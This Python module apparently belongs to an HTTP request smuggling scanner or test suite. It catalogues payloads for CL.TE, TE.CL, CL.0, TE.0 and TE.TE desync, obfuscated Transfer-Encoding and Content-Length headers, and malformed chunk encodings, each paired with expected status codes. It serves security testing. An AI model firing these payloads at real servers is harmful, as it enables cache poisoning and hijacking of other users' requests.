"""What hides a request in a body, or in what may be one: both framings, odd codings, chunks and lengths."""

from __future__ import annotations

from .payload import CHUNKED, END, GET, HOST, LENGTH, POST, Payload, digits

BOTH_FRAMINGS = {
    "CL.TE, the length first": Payload((400,), POST + LENGTH + CHUNKED + "\r\n" + END + "{hidden}"),
    "CL.TE, the coding first": Payload((400,), POST + CHUNKED + LENGTH + "\r\n" + END + "{hidden}"),
    "CL.TE that closes": Payload(
        (400,), POST + "Connection: close\r\n" + LENGTH + CHUNKED + f"\r\n{END}{{hidden}}"
    ),
    "CL.TE of a GET": Payload((400,), GET + LENGTH + CHUNKED + "\r\n" + END + "{hidden}"),
    "CL.TE of a HEAD": Payload((400,), f"HEAD {{one}} HTTP/1.1\r\n{HOST}{LENGTH}{CHUNKED}\r\n{END}{{hidden}}"),
    "TE.CL, a length that ends behind the first size": Payload(
        (400,), POST + "Content-Length: {s}\r\n" + CHUNKED + "\r\n{chunk}" + END
    ),
    "TE.CL, a length of nothing": Payload((400,), POST + "Content-Length: 0\r\n" + CHUNKED + "\r\n{hidden}"),
    "CL.0": Payload((405,), POST + LENGTH + "\r\n{hidden}"),
    "CL.0 of a GET": Payload((400,), GET + LENGTH + "\r\n{hidden}"),
    "CL.0 of a HEAD": Payload((400,), f"HEAD {{one}} HTTP/1.1\r\n{HOST}{LENGTH}\r\n{{hidden}}"),
    "CL.0 of OPTIONS": Payload((200,), f"OPTIONS {{one}} HTTP/1.1\r\n{HOST}{LENGTH}\r\n{{hidden}}"),
    "CL.0 of DELETE": Payload((405,), f"DELETE {{one}} HTTP/1.1\r\n{HOST}{LENGTH}\r\n{{hidden}}"),
    "TE.0": Payload((405,), POST + CHUNKED + "\r\n{chunk}" + END),
    "TE.0 of a GET": Payload((400,), GET + CHUNKED + "\r\n{chunk}" + END),
    "TE.0 of a HEAD": Payload((400,), f"HEAD {{one}} HTTP/1.1\r\n{HOST}{CHUNKED}\r\n{{chunk}}{END}"),
    "0.CL, a length too large by one request": Payload((405,), POST + "Content-Length: 9999\r\n\r\n{hidden}"),
    "a body, and a request behind it": Payload((405,), POST + "Content-Length: 5\r\n\r\nabcde{hidden}"),
    "a body in chunks, and a request behind it": Payload(
        (405,), f"{POST}{CHUNKED}\r\n5\r\nabcde\r\n{END}{{hidden}}"
    ),
}

# A reader of lengths swallows B, a reader of chunks takes it for a request.
_CODING_NAMES = {
    "a space before the colon": (400, "Transfer-Encoding : chunked"),
    "a tab before the colon": (400, "Transfer-Encoding\t: chunked"),
    "a space before it": (400, " Transfer-Encoding: chunked"),
    "a tab before it": (400, "\tTransfer-Encoding: chunked"),
    "a vertical tab before it": (400, "\x0bTransfer-Encoding: chunked"),
    "an underscore": (405, "Transfer_Encoding: chunked"),
    "no hyphen": (405, "TransferEncoding: chunked"),
    "a backslash": (400, "Transfer\\Encoding: chunked"),
    "a NUL behind it": (400, "Transfer-Encoding\x00: chunked"),
    "a high byte before it": (400, "\xefTransfer-Encoding: chunked"),
    "an accent": (400, "Transf\xe9r-Encoding: chunked"),
    "quotes": (400, '"Transfer-Encoding": chunked'),
    "two colons": (400, "Transfer-Encoding:: chunked"),
    "an equals sign": (400, "Transfer-Encoding= chunked"),
    "no colon": (400, "Transfer-Encoding chunked"),
    "a CR in it": (400, "Transfer-\rEncoding: chunked"),
    "a fold in it": (400, "Transfer-\r\n Encoding: chunked"),
    "a header's LF before it": (400, "X: y\nTransfer-Encoding: chunked"),
    "a header's CR before it": (400, "X: y\rTransfer-Encoding: chunked"),
    "a header's escaped line end before it": (405, "X: y%0d%0aTransfer-Encoding: chunked"),
    "a line end of two high bytes before it": (405, "X: y\xc4\x8d\xc4\x8aTransfer-Encoding: chunked"),
    "an empty header before it": (400, ":\r\nTransfer-Encoding: chunked"),
    "a namesake": (405, "Content-Encoding: chunked"),
}
# A reader of chunks finds none, a reader that sees no coding takes B for a request.
_CODING_VALUES = {
    "in capitals": (405, "CHUNKED"),
    "with spaces around it": (405, "   chunked\t "),
    "with no space": (405, "chunked"),
    "a letter before it": (400, "xchunked"),
    "cut short": (400, "chunk"),
    "empty": (400, ""),
    "identity": (400, "identity"),
    "then identity": (400, "chunked, identity"),
    "identity first": (400, "identity, chunked"),
    "twice in a list": (400, "chunked, chunked"),
    "compressed first": (400, "gzip, chunked"),
    "a comma before it": (400, ",chunked"),
    "a comma behind it": (400, "chunked,"),
    "with a parameter": (400, "chunked;q=1"),
    "in quotes": (400, '"chunked"'),
    "a word behind it": (400, "chunked x"),
    "a backslash behind it": (400, "chunked\\"),
    "a vertical tab before it": (400, "\x0bchunked"),
    "a form feed behind it": (400, "chunked\x0c"),
    "a NUL before it": (400, "\x00chunked"),
    "a NUL behind it": (400, "chunked\x00"),
    "a CR before it": (400, "\rchunked"),
    "spaces of another half": (400, "\xa0chunked\x85"),
    "an umlaut": (400, "ch\xfcnked"),
    "the sign for kelvin": (400, "chun\xe2\x84\xaaed"),
    "folded": (400, "\r\n chunked"),
    "folded by a tab": (400, "\r\n\tchunked"),
    "a fold behind it": (400, "chunked\r\n "),
    "in two headers": (400, "chunked\r\nTransfer-Encoding: chunked"),
    "identity in a second header": (400, "chunked\r\nTransfer-Encoding: identity"),
    "identity in a first header": (400, "identity\r\nTransfer-Encoding: chunked"),
    "a second header in capitals": (400, "x\r\nTRANSFER-ENCODING: chunked"),
}
CODINGS = {
    **{
        f"TE.TE, the name: {name}": Payload((status,), f"{POST}{line}\r\n{LENGTH}\r\n{END}{{hidden}}")
        for name, (status, line) in _CODING_NAMES.items()
    },
    **{
        f"TE.TE, the value: {name}": Payload((status,), f"{POST}Transfer-Encoding:{value}\r\n\r\n{{hidden}}")
        for name, (status, value) in _CODING_VALUES.items()
    },
    "TE.TE, the first header, indented": Payload(
        (400,), f"POST {{one}} HTTP/1.1\r\n {CHUNKED}{HOST}{LENGTH}\r\n{END}{{hidden}}"
    ),
    "TE.TE, in the old version": Payload((400,), f"POST {{one}} HTTP/1.0\r\n{HOST}{CHUNKED}\r\n{END}{{hidden}}"),
}

# The cache reads no body: for the proxy before it these are the riddle, for the cache what the proxy makes of them.
_CHUNKS = {
    "a plus": "+0\r\n\r\n{hidden}",
    "a minus": "-0\r\n\r\n{hidden}",
    "a minus before a size": "-1\r\nZ\r\n0\r\n\r\n{hidden}",
    "0x": "0x0\r\n\r\n{hidden}",
    "0x before B's size": "0x{x}\r\n{hidden}\r\n0\r\n\r\n",
    "a space before it": " 0\r\n\r\n{hidden}",
    "a space behind it": "0 \r\n\r\n{hidden}",
    "a tab before it": "\t0\r\n\r\n{hidden}",
    "an underscore": "0_{x}\r\n{hidden}\r\n0\r\n\r\n",
    "a comma": "0,{x}\r\n{hidden}\r\n0\r\n\r\n",
    "no size": "\r\n\r\n{hidden}",
    "no digit": "g\r\n\r\n{hidden}",
    "a zero of another script": f"{digits(0x0660)}\r\n\r\n{{hidden}}",
    "a digit as wide as a letter": f"{digits(0xFF10)}\r\n\r\n{{hidden}}",
    "zeros before it": "00000000000000000000\r\n\r\n{hidden}",
    "zeros before B's size": "0000000000000000{x}\r\n{hidden}\r\n0\r\n\r\n",
    "2^31": "80000000\r\n{hidden}\r\n0\r\n\r\n",
    "2^32": "100000000\r\n\r\n{hidden}",
    "2^32 and B's size": "100000{x}\r\n{hidden}\r\n0\r\n\r\n",
    "2^63": "8000000000000000\r\n{hidden}\r\n0\r\n\r\n",
    "2^64 - 1": "ffffffffffffffff\r\n{hidden}\r\n0\r\n\r\n",
    "2^64": "10000000000000000\r\n\r\n{hidden}",
    "2^64 and B's size": "10000000000000{x}\r\n{hidden}\r\n0\r\n\r\n",
    "an extension": "0;a=b\r\n\r\n{hidden}",
    "an extension without a name": "0;\r\n\r\n{hidden}",
    "an extension with LF": "1;a\nZ\r\n0\r\n\r\n{hidden}",
    "an extension with CR": "1;a\rZ\r\n0\r\n\r\n{hidden}",
    "an extension with a NUL": "0;\x00\r\n\r\n{hidden}",
    "an extension with a quoted line end": '5;a="\r\nabcde\r\n0\r\n\r\n{hidden}',
    "an extension without a semicolon": "0 a=b\r\n\r\n{hidden}",
    "data longer than its size": "1\r\nZZ\r\n0\r\n\r\n{hidden}",
    "data shorter than its size": "5\r\nZ\r\n0\r\n\r\n{hidden}",
    "no line end behind the data": "1\r\nZ0\r\n\r\n{hidden}",
    "LF behind the size": "1\nZ\r\n0\r\n\r\n{hidden}",
    "LF behind the data": "1\r\nZ\n0\r\n\r\n{hidden}",
    "CR behind the size": "1\rZ\r\n0\r\n\r\n{hidden}",
    "two other letters for the line end": "1\r\nZxx0\r\n\r\n{hidden}",
    "no last one": "{chunk}",
    "two last ones": "0\r\n\r\n0\r\n\r\n{hidden}",
    "a last one that ends by LF": "0\n\n{hidden}",
    "a last one that ends half by LF": "0\r\n\n{hidden}",
    "a last one without its empty line": "0\r\n{hidden}",
    "a trailer": "0\r\nX: y\r\n\r\n{hidden}",
    "a trailer that is a length": "0\r\nContent-Length: {s}\r\n\r\n{hidden}",
    "a trailer that is a coding": "0\r\nTransfer-Encoding: chunked\r\n\r\n{hidden}",
    "a trailer that is a host": "0\r\nHost: evil\r\n\r\n{hidden}",
    "a trailer without a colon": "0\r\nX\r\n\r\n{hidden}",
    "a trailer with LF": "0\r\nX: y\n\n{hidden}",
    "a folded trailer": "0\r\nX: y\r\n z\r\n\r\n{hidden}",
}
CHUNKS = {f"chunks: {name}": Payload((405,), f"{POST}{CHUNKED}\r\n{body}") for name, body in _CHUNKS.items()}

_LENGTHS = {
    "nothing": ((405, 200), "Content-Length: 0"),
    "nothing, twice written": ((405, 200), "Content-Length: 00"),
    "zeros before it": ((405,), "Content-Length: 000{n}"),
    "a plus": ((400,), "Content-Length: +{n}"),
    "a minus": ((400,), "Content-Length: -{n}"),
    "a minus before nothing": ((400,), "Content-Length: -0"),
    "0x": ((400,), "Content-Length: 0x{n}"),
    "a fraction": ((400,), "Content-Length: 0.0"),
    "an exponent": ((400,), "Content-Length: 0e9"),
    "a space in it": ((400,), "Content-Length: 0 {n}"),
    "an underscore": ((400,), "Content-Length: 0_{n}"),
    "a parameter": ((400,), "Content-Length: 0;{n}"),
    "empty": ((400,), "Content-Length: "),
    "a word": ((400,), "Content-Length: none"),
    "a list of equal ones": ((400,), "Content-Length: {n}, {n}"),
    "a list of unequal ones": ((400,), "Content-Length: 0, {n}"),
    "a list with nothing in it": ((400,), "Content-Length: {n},"),
    "two headers of equal ones": ((400,), "Content-Length: {n}\r\nContent-Length: {n}"),
    "two headers, the first nothing": ((400,), "Content-Length: 0\r\nContent-Length: {n}"),
    "two headers, the second nothing": ((400,), "Content-Length: {n}\r\ncontent-length: 0"),
    "2^32": ((405,), "Content-Length: 4294967296"),
    "2^63": ((400,), "Content-Length: 9223372036854775808"),
    "2^64": ((400,), "Content-Length: 18446744073709551616"),
    "a hundred digits": ((400,), "Content-Length: " + "9" * 100),
    "a NUL behind it": ((400,), "Content-Length: 0\x00"),
    "a vertical tab behind it": ((400,), "Content-Length: 0\x0b"),
    "a space of another half": ((400,), "Content-Length: \xa00"),
    "a zero of another script": ((400,), f"Content-Length: {digits(0x0660)}"),
    "a zero that is small and raised": ((400,), f"Content-Length: {digits(0x2070)}"),
    "folded": ((400,), "Content-Length:\r\n {n}"),
    "a space before the colon": ((400,), "Content-Length : {n}"),
    "a space before the name": ((400,), " Content-Length: {n}"),
    "a NUL behind the name": ((400,), "Content-Length\x00: {n}"),
    "an underscore in the name": ((405, 200), "Content_Length: {n}"),
    "a header's CR before it": ((400,), "X: y\rContent-Length: {n}"),
    "a header's LF before it": ((400,), "X: y\nContent-Length: {n}"),
}
LENGTHS = {
    f"length: {name}": Payload(answers, f"{POST}{line}\r\n\r\n{{hidden}}")
    for name, (answers, line) in _LENGTHS.items()
}
